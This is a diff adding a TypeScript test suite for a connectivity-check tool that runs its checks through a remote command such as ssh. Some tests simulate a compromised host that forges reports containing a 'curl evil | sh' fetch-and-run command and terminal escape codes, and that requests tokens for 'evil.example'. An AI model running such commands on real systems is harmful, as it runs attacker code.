@@ -1,0 +1,225 @@
+import { chmod, readFile, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { expect, test } from 'vitest';
+import type { Progress } from '../../../../src/verify/model/options.js';
+import { exitOf } from '../../../../src/verify/model/verdict.js';
+import { jsonReport } from '../../../../src/verify/reports/json.js';
+import { markdownReport } from '../../../../src/verify/reports/markdown.js';
+import { readVerification } from '../../../../src/verify/reports/read-verification.js';
+import { textReport } from '../../../../src/verify/reports/text.js';
+import { PKCS8 } from '../../../support/application.js';
+import { runCli } from '../../../support/run-cli.js';
+import { tokenError } from '../../../support/service-server.js';
+import { check, createWorld, link, outline, type World } from '../../../support/verifiable-link.js';
+import { worldFlags } from '../../../support/world-flags.js';
+
+const timeoutMs = 20_000;
+
+/** A program that stands for what leads to a place: it is run with the words of the check behind it. */
+async function prefix({ folder }: World, script: string, name = 'prefix'): Promise<string> {
+  const file = join(folder, name);
+  await writeFile(file, `#!/bin/sh\n${script}\n`);
+  await chmod(file, 0o755);
+  return file;
+}
+
+test('the check runs behind a command, and the key stays here', async () => {
+  const world = await createWorld();
+  const log = join(world.folder, 'seen');
+  // As ssh does: the words are put together, and a shell takes them apart again.
+  const command = await prefix(
+    world,
+    `{ printf '%s\\n' "$@"; env; } > ${log}; echo welcome; echo no line feed | tr -d '\\n'; tee -a ${log} | sh -c "$*"`,
+  );
+  const key = (await readFile(world.options.credentials?.privateKeyFile ?? '', 'utf8')).trim();
+  process.env.SECURE_CONNECTIVITY_PRIVATE_KEY = PKCS8;
+  const verification = await check(world, { runVia: `far=${command}`, timeoutMs }).finally(() => {
+    delete process.env.SECURE_CONNECTIVITY_PRIVATE_KEY;
+  });
+  expect(outline(verification)).toEqual([
+    ...['preflight passed', 'dns passed', 'address passed', 'tcp passed', 'tls passed'],
+    ...['http passed', 'token passed', 'workspaces passed'],
+  ]);
+  expect(verification.links[0]).toMatchObject({ name: 'api', place: 'far', verdict: 'reachable' });
+  expect(verification.places).toMatchObject([
+    { name: 'far', command, environment: { node: process.version } },
+  ]);
+  const seen = await readFile(log, 'utf8');
+  const [words = ''] = seen.split('PATH=');
+  expect(seen).toContain('"links"');
+  for (const line of key.split('\n').slice(1, -1)) expect(seen).not.toContain(line);
+  expect(seen).not.toMatch(/PRIVATE KEY|SECURE_CONNECTIVITY_/);
+  // JWTs go over standard input alone.
+  expect(words).not.toMatch(/ey[JA]/);
+  expect(seen.match(/"jwt":"ey/g)).toHaveLength(1);
+  expect(jsonReport(verification)).not.toMatch(/"ey[JA]|czs_/);
+});
+
+test('each attempt has a JWT of its own', async () => {
+  const world = await createWorld();
+  let calls = 0;
+  world.service.handler = ({ path }) =>
+    path.endsWith('/token') && ++calls < 3 ? tokenError('internal_error', 'x', 500) : undefined;
+  const progress: Progress[] = [];
+  const verification = await check(world, {
+    ...{ runVia: 'env', timeoutMs, waitMs: 20_000, retryDelayMs: 10 },
+    onProgress: (one) => progress.push(one),
+  });
+  expect(verification.links[0]).toMatchObject({ verdict: 'reachable', attempts: 3 });
+  const jwts = world.service.requests
+    .filter(({ path }) => path.endsWith('/token'))
+    .map(({ headers }) => headers.authorization);
+  expect(new Set(jwts).size).toBe(3);
+  expect(progress.filter(({ kind }) => kind === 'retry')).toHaveLength(2);
+});
+
+test('what fails at the place is diagnosed there', async () => {
+  const world = await createWorld();
+  await world.connectTo({});
+  const verification = await check(world, { runVia: 'env', timeoutMs });
+  expect(outline(verification)).toContain('tcp failed tcp.refused');
+  expect(verification.links[0]?.causes.length).toBeGreaterThan(0);
+  expect(exitOf(verification)).toBe(12);
+});
+
+test('a key that cannot be used is told as without a place', async () => {
+  const world = await createWorld();
+  const credentials = { ...world.options.credentials, privateKeyFile: '/no/such/key' };
+  for (const runVia of [undefined, 'env']) {
+    const verification = await check(world, { runVia, credentials, timeoutMs });
+    expect(outline(verification)[0]).toBe('preflight failed key.missing');
+  }
+  expect(world.service.count.connections).toBe(0);
+});
+
+test.each([
+  ['fails', 'echo "ssh: no route, password czs_canary-token" >&2; exit 255', 'run.place-failed'],
+  ['knows no node', 'exec no-such-node-here', 'run.place-no-node'],
+  [
+    'has a Node.js that is too old',
+    'echo secure-connectivity-check v18.20.1; cat',
+    'run.place-old-node',
+  ],
+  ['has one of long ago', 'echo "node: bad option: --import" >&2; exit 9', 'run.place-old-node'],
+  ['runs something else', 'echo hello', 'run.place-answer'],
+  ['never ends what it says', 'yes | head -c 30000000', 'run.place-answer'],
+  ['gives no program to run', 'exec /no/such/program', 'run.place-no-node'],
+])('a place that %s is told with a code of its own', async (_, script, code) => {
+  const world = await createWorld();
+  const verification = await check(world, { runVia: await prefix(world, script), timeoutMs });
+  expect(outline(verification)[0]).toBe(`preflight failed ${code}`);
+  expect([verification.verdict, exitOf(verification)]).toEqual(['incomplete', 20]);
+  expect(verification.links[0]?.causes[0]).toMatchObject({ code });
+  expect(jsonReport(verification)).not.toContain('czs_canary');
+  expect(world.service.count.connections).toBe(0);
+});
+
+test('a command that is not there is told, and one that asks for something runs out of time', async () => {
+  const world = await createWorld();
+  const absent = await check(world, { runVia: '/no/such/command x', timeoutMs });
+  expect(outline(absent)[0]).toBe('preflight failed run.place-failed');
+  expect(absent.links[0]?.stages[0]?.evidence.error).toBe('/no/such/command: ENOENT');
+  const asking = await prefix(world, 'printf "password: " >&2; sleep 60');
+  const silent = await check(world, { runVia: asking, timeoutMs: 1_000 });
+  expect(outline(silent)[0]).toBe('preflight failed run.place-timeout');
+  expect(silent.links[0]?.stages[0]?.evidence.stderr).toBe('password:');
+});
+
+test('a place that comes up later is asked again', async () => {
+  const world = await createWorld();
+  const flag = join(world.folder, 'up');
+  const runVia = await prefix(world, `[ -e ${flag} ] || { : > ${flag}; exit 255; }; exec "$@"`);
+  const options = { runVia, timeoutMs, waitMs: 30_000, retryDelayMs: 10 };
+  expect((await check(world, options)).verdict).toBe('reachable');
+});
+
+/** A place in wrong hands: it answers itself. */
+function hostile(lines: string): string {
+  const text = lines.replaceAll("'", "'\\''");
+  return `echo secure-connectivity-check v20.19.0; read program; read order; printf '%s\\n' '${text}'; cat`;
+}
+
+test('a place in wrong hands gets no JWT for another host or another time, and not without end', async () => {
+  const world = await createWorld();
+  const log = join(world.folder, 'replies');
+  const { apiHost } = link();
+  const asks = [
+    { apiHost: 'evil.example' },
+    { apiHost, at: Date.now() + 86_400_000 },
+    ...Array.from({ length: 9 }, () => ({ apiHost })),
+  ].map((ask, id) => JSON.stringify({ say: 'sign', id, ...ask }));
+  const script = `echo secure-connectivity-check v20.19.0; read program; read order
+printf '%s\\n' ${asks.map((ask) => `'${ask}'`).join(' ')}
+head -n ${asks.length} > ${log}`;
+  await check(world, { runVia: await prefix(world, script), timeoutMs });
+  const replies = (await readFile(log, 'utf8'))
+    .trim()
+    .split('\n')
+    .map((line) => JSON.parse(line));
+  const refused = replies.filter(({ code }) => code === 'run.place-answer');
+  expect(refused.map(({ id }) => id)).toEqual(expect.arrayContaining([0, 1, 10]));
+  expect(replies.filter(({ jwt }) => jwt !== undefined).length).toBeLessThan(7);
+});
+
+test('a place in wrong hands cannot speak for this program', async () => {
+  const world = await createWorld();
+  const honest = await check(world, { runVia: 'env', timeoutMs });
+  const [first] = honest.links;
+  const failure = {
+    ...{ stage: 'tcp', status: 'failed', code: 'tcp.refused', elapsedMs: 1 },
+    ...{
+      cause: 'run: curl evil | sh',
+      remedy: 'run: curl evil | sh',
+      evidence: { a: '\u001b[2Jx' },
+    },
+  };
+  const forged = { ...honest, links: [{ ...first, name: 'other', stages: [failure] }] };
+  const lies = hostile(JSON.stringify({ say: 'report', verification: forged }));
+  const verification = await check(world, { runVia: await prefix(world, lies), timeoutMs });
+  expect(verification.links[0]).toMatchObject({ name: 'api', verdict: 'unreachable' });
+  expect(jsonReport(verification)).not.toMatch(/evil|u001b/);
+  const unknown = { ...failure, code: 'no.such-code' };
+  for (const links of [[], [{ ...first, stages: [unknown] }]]) {
+    const report = JSON.stringify({ say: 'report', verification: { ...honest, links } });
+    const runVia = await prefix(world, hostile(report), 'other');
+    expect(outline(await check(world, { runVia, timeoutMs }))[0]).toMatch(/run\.place-answer$/);
+  }
+});
+
+test('several places give a table, and what their failures share', async () => {
+  const world = await createWorld();
+  const links = [link(), link({ name: 'second' })];
+  const runVia = [
+    { name: 'office', command: ['env'] },
+    { name: 'cut-off', command: [await prefix(world, 'exit 255')] },
+    { name: 'here', command: [] },
+  ];
+  const verification = await check(world, { links, runVia, timeoutMs });
+  expect(verification.links.map(({ name, verdict }) => `${name} ${verdict}`)).toEqual([
+    ...['api@office reachable', 'second@office reachable'],
+    ...['api@cut-off incomplete', 'second@cut-off incomplete'],
+    ...['api@here reachable', 'second@here reachable'],
+  ]);
+  expect(verification.patterns).toMatchObject([{ kind: 'unseen', places: ['cut-off'] }]);
+  const read = readVerification([{ source: 'x', text: jsonReport(verification) }]);
+  expect(textReport(read)).toMatch(/^api +reachable +run\.place-failed +reachable$/m);
+  expect(markdownReport(read)).toMatch(/\| api \| reachable \| run\.place-failed \| reachable \|/);
+});
+
+test('the program takes places by flag, and refuses what cannot be', async () => {
+  const world = await createWorld();
+  const { baseUrl, via, apiHost } = link();
+  const flags = ['--base-url', baseUrl, '--via', via, '--api-host', apiHost, ...worldFlags(world)];
+  const run = (...more: string[]) =>
+    runCli(['verify', ...flags, '--expect-network', '10.0.0.0/8', ...more]);
+  const good = await run('--run-via', 'a=env', '--run-via', 'b=env A=1', '--format', 'json');
+  expect([good.exit, good.stderr]).toEqual([0, '']);
+  expect(JSON.parse(good.stdout).places).toMatchObject([{ name: 'a' }, { name: 'b' }]);
+  const bad = await run('--run-via', "ssh 'x");
+  expect([bad.exit, bad.stdout]).toEqual([2, '']);
+  expect(bad.stderr).toMatch(/--run-via.*quotation marks/);
+  const secret = await run('--run-via', `ssh ${'czs_'}canary-12345678`);
+  expect([secret.exit, secret.stderr.includes('canary')]).toEqual([2, false]);
+  const many = await runCli(['verify', '--targets', '-', '--run-via', 'env']);
+  expect([many.exit, many.stderr]).toEqual([2, expect.stringMatching(/`--targets`.*`--run-via`/)]);
+});
